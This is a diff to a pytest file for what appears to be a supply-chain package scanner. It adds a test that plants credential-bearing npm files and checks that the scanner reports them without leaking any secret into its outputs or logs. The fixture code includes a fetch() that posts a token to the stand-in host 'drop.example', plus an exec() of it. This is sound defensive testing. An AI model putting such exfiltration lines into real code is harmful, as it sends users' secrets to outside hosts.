@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import logging
+from datetime import UTC, datetime
 
 import pytest
 
@@ -11,8 +12,10 @@ from app.core.package import Package
 from app.core.records import inspection_record, review_record
 from app.core.terminal_text import review_lines
 from app.demo.packages import sdist, wheel
+from app.exports.sarif import sarif
 from tests import minted
 from tests.fakes.registry import digests
+from tests.minted_forms import FORMS
 from tests.stories.theatre import GREETER, Theatre, npm_files
 from worker.inspection.engine import ENGINE
 
@@ -63,6 +66,49 @@ def test_a_credential_is_told_and_seen_nowhere(house: Theatre, caplog: pytest.Lo
     whole = "\n".join(said)
     for secret in (token, *key.split("\n")[1:-2]):
         assert all(secret[at : at + 12] not in whole for at in range(5, len(secret) - 12))
+
+
+def test_no_credential_of_any_kind_is_seen_anywhere(house: Theatre, caplog: pytest.LogCaptureFixture) -> None:
+    """One of every kind, in code that makes other facts of the same lines."""
+    caplog.set_level(logging.DEBUG)
+    tokens = {sample.credential: (sample, sample.mint("everywhere")) for sample in FORMS}
+    code = {
+        f"lib/{kind}.js": f"fetch('https://drop.example', {{ body: `{sample.text(token)}` }});\nexec('{sample.text(token)}');\n"
+        for kind, (sample, token) in tokens.items()
+    }
+    index = "\n".join(f"require('./{path}');" for path in code)
+    old = house.publish("left", "1.0.0")
+    new = house.publish("left", "1.0.1", {**GREETER, **code, "index.js": index})
+    repository = house.repository(npm_files({"left": ("1.0.0", old)}))
+    pull = house.github.open_pull(repository, "Upgrade left", npm_files({"left": ("1.0.1", new)}))
+    house.settle()
+
+    check = house.check(pull)
+    report = house.store.reports.get(str(check.details_url).rpartition("/")[2])
+    tarball = house.registry.shelf.npm["left"]["1.0.1"].tarball
+    left = Package.parse("npm/left@1.0.1")
+    facts = house.store.inspections.find("public", left, ENGINE, digests(tarball, "sha256"))
+    assert report is not None
+    assert facts is not None
+    told = {finding.finding.evidence[0].file for one in report.reviewed for finding in one.findings}
+    whole = "\n".join(
+        [
+            str(check.summary),
+            json.dumps(check.annotations),
+            house.comment(pull),
+            *(line.body for line in house.line_comments(pull)),
+            json.dumps(review_record(report)),
+            json.dumps(inspection_record("npm/left@1.0.1", report.reviewed[0], [facts])),
+            *review_lines(report, verbose=True),
+            sarif(report, datetime(2026, 1, 1, tzinfo=UTC)),
+            repr(facts),
+            caplog.text,
+        ]
+    )
+    assert len(told & code.keys()) > 60, "as many as a report keeps"
+    for kind, (_, token) in tokens.items():
+        secret = token.split("\n")[1] if token.startswith("-----") else token
+        assert all(secret[at : at + 12] not in whole for at in range(5, len(secret) - 12)), kind
 
 
 def test_a_manifest_that_differs_is_told_again_when_its_facts_are_known(house: Theatre) -> None:
